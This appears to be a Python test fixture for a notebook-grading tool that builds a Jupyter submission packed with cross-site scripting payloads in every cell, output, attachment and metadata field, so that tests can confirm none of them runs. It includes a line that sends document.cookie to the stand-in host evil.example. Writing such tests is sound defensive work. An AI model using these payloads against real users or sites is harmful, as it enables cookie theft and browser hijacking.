"""A submission that attacks the browser of whoever looks at it: scripts in every place of a valid notebook.

Each sets ``window.__pwned`` or calls on evil.example, if anything of it runs.
"""

import base64

import nbformat

from grader.base.cards import verdict_html, verdict_text
from grader.checking.verdict import VERDICT_MIME, Verdict

RUN = "window.__pwned=1"
CALL = "fetch('https://evil.example/'+document.cookie)"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"><script>{RUN}</script></svg>'
NAMES = (
    f'"><img src=x onerror="{RUN}">',
    f"x\" autofocus tabindex=1 onfocus='{RUN}' y=\"",
    f"'-{RUN}-'",
    f"{{{{ 7*7 }}}}<svg onload={RUN}>",
    "\x1b]0;pwned\x07\x1b[2J\x1b[31mRed\u202egnp",
    'Robert "Bobby" Tables',
)
HTML = (
    f"<script>{RUN};{CALL}</script>\n\n"
    f'<img src=x onerror="{RUN}">\n\n'
    '<img src="https://evil.example/pixel.png"> ![pixel](https://evil.example/pixel2.png)\n\n'
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="https://evil.example/"></iframe>\n\n'
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="https://evil.example/e">\n\n'
    f"{SVG}\n\n"
    f'<a id="go" href="javascript:{RUN}">click</a> [click](javascript:{RUN}) [data](data:text/html,<script>{RUN}</script>)'
    f" [file](plot.html) <a href=plot.html>file</a>\n\n"
    '<form action="https://evil.example/"><input name=p autofocus onfocus="window.__pwned=1"><button>Log in</button></form>'
    "\n\n<style>@import 'https://evil.example/s.css'; body{background:url(https://evil.example/b.png)}</style>"
    '<link rel=stylesheet href="https://evil.example/l.css"><meta http-equiv=refresh content="0;url=https://evil.example/">'
    '<base href="https://evil.example/">\n\n'
    '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/d.png)" onmouseover="window.__pwned=1">'
    'cover</div>\n\n<math><mi//xlink:href="data:x,<script>window.__pwned=1</script>">\n\n'
    '<div id="why_two_gates" class="nbgrader_cell navbar-fixed-top">twin</div>\n\n'
    f'</div></body></html><template><script>{RUN}</script></template><noscript><p title="</noscript><img src=x onerror={RUN}>">'
    f"\n\n$\\href{{javascript:{RUN}}}{{x}}$ $</span><img src=x onerror={RUN}>$ `<script>{RUN}</script>`\n\n"
    f"```html\n<script>{RUN}</script>\n```\n\n```mermaid\ngraph TD; A[<img src=x onerror={RUN}>]\n```\n\n"
    f'![]("onerror="{RUN})'
)
ATTACHED = "![at](attachment:x.svg) ![at2](attachment:y.html) ![at3](attachment:z.png)"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
ATTACHMENTS = {
    "x.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "y.html": {"text/html": f"<script>{RUN}</script>"},
    "z.png": {f'image/png" onerror="{RUN}': PNG, "image/png": f'{PNG}" onerror="{RUN}'},
    "mine.png": {"image/png": PNG},
}
CARD = Verdict("gate", "failed", "values", "`gate` has the right shape", body=("A card of the judge.",), picture=(
    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" role="img" aria-label="A map"><title>A map</title>'
    '<rect width="40" height="20" fill="#d9534f"/></svg>'
))  # fmt: skip


def card():
    """A card as the judge puts it among the outputs."""
    data = {"text/html": verdict_html(CARD), "text/plain": verdict_text(CARD), VERDICT_MIME: {"exercise": "gate"}}
    return nbformat.v4.new_output("display_data", data)


def outputs():
    """Outputs of every kind."""
    made = [
        {"text/html": HTML},
        {"text/html": f"<div onclick={RUN}>x</div>"},
        {"application/javascript": RUN},
        {"text/javascript": RUN},
        {"image/svg+xml": SVG},
        {"text/markdown": HTML},
        {"text/latex": HTML},
        {"text/plain": f"<script>{RUN}</script>"},
        {"image/png": f'x" onerror="{RUN}'},
        {"image/jpeg": f'">{SVG}'},
        {"application/vnd.jupyter.widget-view+json": {"model_id": f"</script><script>{RUN}</script>"}},
        {"text/vnd.mermaid": f"</pre><script>{RUN}</script>"},
        {f"text/<script>{RUN}</script>": "x"},
    ]
    metadata = {
        "image/png": {"width": f"1 onerror={RUN}", "alt": f'"><script>{RUN}</script>'},
        "filenames": {"image/png": f'x" onerror="{RUN}'},
    }
    return [
        *(nbformat.from_dict({"output_type": "display_data", "data": d, "metadata": {}}) for d in made),
        nbformat.from_dict({"output_type": "display_data", "data": {"image/png": PNG}, "metadata": metadata}),
        nbformat.from_dict(
            {"output_type": "display_data", "data": {"text/html": HTML}, "metadata": {"text/html": {"isolated": True}}}
        ),
        nbformat.from_dict({"output_type": "stream", "name": f'"><script>{RUN}</script>', "text": f"\x1b[31m{HTML}"}),
        nbformat.from_dict(
            {"output_type": "error", "ename": f"<script>{RUN}", "evalue": HTML, "traceback": [f"\x1b[0;31m{HTML}", HTML]}
        ),
    ]  # fmt: skip


def notebook(pristine, answer):
    """A submission of the lesson `pristine` with attacks everywhere; its written answer begins with the text `answer`."""
    made = nbformat.from_dict(pristine)
    written = [c for c in made.cells if c.cell_type == "markdown" and c.metadata.get("nbgrader", {}).get("grade")]
    for cell in written:
        cell.source = f"{answer}\n\n![mine](attachment:mine.png)\n\n{HTML}\n\n{ATTACHED}"
        cell.attachments = ATTACHMENTS
    code = [c for c in made.cells if c.cell_type == "code"]
    for cell in code:
        cell.outputs = [card()] if cell.metadata.get("nbgrader", {}).get("grade") else []
        cell.metadata.tags = [f'x"><script>{RUN}</script>']
    own = [
        nbformat.v4.new_code_cell(f"# </code></pre><script>{RUN}</script>\n'''{HTML}'''"),
        nbformat.v4.new_markdown_cell(f"{HTML}\n\n{ATTACHED}"),
        nbformat.v4.new_raw_cell(HTML, metadata={"raw_mimetype": "text/html"}),
        nbformat.v4.new_raw_cell(HTML),
    ]
    own[0].outputs = outputs()
    own[1].attachments = ATTACHMENTS
    own[1].metadata.nbgrader = {
        "grade_id": f'"><script>{RUN}</script>', "solution": True, "grade": True, "points": f"<script>{RUN}</script>",
    }  # fmt: skip
    made.cells[1:1] = own
    evil = f'"></script><script>{RUN}</script>'
    made.metadata = nbformat.from_dict(
        {
            "kernelspec": {"name": evil, "display_name": evil, "language": evil},
            "language_info": {"name": evil, "pygments_lexer": evil, "codemirror_mode": evil},
            "title": evil,
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": evil}}},
        }
    )
    return made
